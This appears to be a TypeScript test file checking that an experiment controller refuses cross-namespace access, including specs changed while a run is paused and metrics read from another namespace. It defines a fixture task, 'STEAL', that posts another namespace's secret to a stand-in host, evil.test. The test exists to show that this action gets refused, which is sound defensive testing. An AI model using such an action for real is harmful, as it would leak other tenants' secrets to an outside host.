/** What a driver for many does not do, it does not do later either: whoever may change the spec gains nothing by the moment. */
import { describe, expect, it } from 'vitest';
import { refusals } from '../../src/controller/tenant-isolation.ts';
import type { Event } from '../../src/drive/events.ts';
import type { ExperimentStore } from '../../src/drive/ports.ts';
import type { Experiment } from '../../src/experiment/experiment.ts';
import { KEY, LOAD, waits, withActions } from '../support/asking.ts';
import { conformance, driveInMemory, measuring, writtenMetric } from '../support/driving.ts';
import { createMemoryStore } from '../support/memory-store.ts';
import { fakeClock } from '../support/fake-clock.ts';

const GATE = { task: 'gate', with: { timeout: '1h' } };
const STEAL = {
  task: 'notification/http',
  with: { url: 'http://evil.test/', secret: 'other/s', ignoreFailure: false },
};
const REFUSING = { refuse: (one: Experiment) => refusals(one, { allowScripts: false }), ownMetricsOnly: true };
const failedBy = ({ status }: Experiment) => {
  const failed = status?.conditions?.find(({ type }) => type === 'Failed');
  return { reason: failed?.reason, message: failed?.message };
};

/** A store whose experiment has these actions from the moment when `changed()` is called. */
function changing(store: ExperimentStore, actions: object) {
  let isChanged = false;
  const { strategy } = withActions(actions).spec;
  const seen = (one: Experiment): Experiment =>
    isChanged
      ? { ...one, spec: { ...one.spec, strategy: { ...one.spec.strategy, actions: strategy.actions as never } } }
      : one;
  return {
    changed: () => (isChanged = true),
    store: new Proxy(store, {
      get: (target, name: keyof ExperimentStore) => {
        const value: unknown = target[name];
        if (typeof value !== 'function') return value;
        return async (...given: unknown[]) => {
          const answer: unknown = await (value.apply(target, given) as unknown);
          return name === 'get' || name === 'patchStatus' ? seen(answer as Experiment) : answer;
        };
      },
    }),
  };
}

describe('an experiment that is otherwise valid', () => {
  it('is refused by whoever goes on with a spec that was changed while nobody drove', async () => {
    const clock = fakeClock();
    const { store, changed } = changing(createMemoryStore({ clock }), { start: [LOAD], finish: [GATE, STEAL] });
    const stop = new AbortController();
    const done: string[] = [];
    const tasks = { run: ({ id }: { readonly id: string }) => Promise.resolve(String(done.push(id))) };
    const written = withActions({ start: [LOAD], finish: [GATE] });
    const onEvent = (event: Event) => void (waits(event) && stop.abort());
    await driveInMemory(written, { store, clock, tasks, onEvent, options: { ...REFUSING, stop: stop.signal } });
    changed();
    await store.patchMetadata(KEY, { annotations: { 'iter8.tools/approve': 'finish/0' } });
    const { outcome } = await driveInMemory(written, { store, clock, tasks, options: REFUSING });
    expect(failedBy(outcome.experiment)).toEqual({
      reason: 'InvalidExperiment',
      message: expect.stringMatching(/secret other\/s is of another namespace/) as string,
    });
    expect(done).toEqual([]);
  });

  it('is refused when its spec is changed under a start task, before the next one', async () => {
    const clock = fakeClock();
    const READY = { task: 'common/readiness', with: {} };
    const { store, changed } = changing(createMemoryStore({ clock }), { start: [READY, READY, STEAL] });
    const done: string[] = [];
    const tasks = {
      run: ({ id }: { readonly id: string }) => {
        changed();
        return Promise.resolve(String(done.push(id)));
      },
    };
    const { outcome } = await driveInMemory(withActions({ start: [READY, READY] }), {
      store,
      clock,
      tasks,
      options: REFUSING,
    });
    expect(failedBy(outcome.experiment).reason).toBe('HandlerFailed');
    expect(outcome.recommendation.reasons.join()).toMatch(/secret other\/s is of another namespace/);
    expect(done).toEqual(['start/0']);
  });
});

describe('a metric of its own', () => {
  it('reads no metric of another namespace as its sampleSize', async () => {
    const clock = fakeClock();
    const store = createMemoryStore({ clock });
    await store.createMetric(writtenMetric('mine', { sampleSize: 'other/revenue' }));
    const theirs = writtenMetric('revenue', { type: 'Counter', urlTemplate: 'http://theirs.test/' });
    await store.createMetric({ ...theirs, metadata: { name: 'revenue', namespace: 'other' } });
    const asked: string[] = [];
    const metrics = measuring((metric) => asked.push(metric));
    const written = conformance({ actions: {}, objectives: [{ metric: 'mine', upperLimit: '0.5' }] });
    const { outcome } = await driveInMemory(written, { store, clock, metrics, options: REFUSING });
    expect(failedBy(outcome.experiment)).toEqual({
      reason: 'InvalidExperiment',
      message: expect.stringMatching(/metric other\/revenue is of another namespace/) as string,
    });
    expect([asked, JSON.stringify(outcome.experiment)]).toEqual([[], expect.not.stringContaining('theirs.test')]);
  });
});
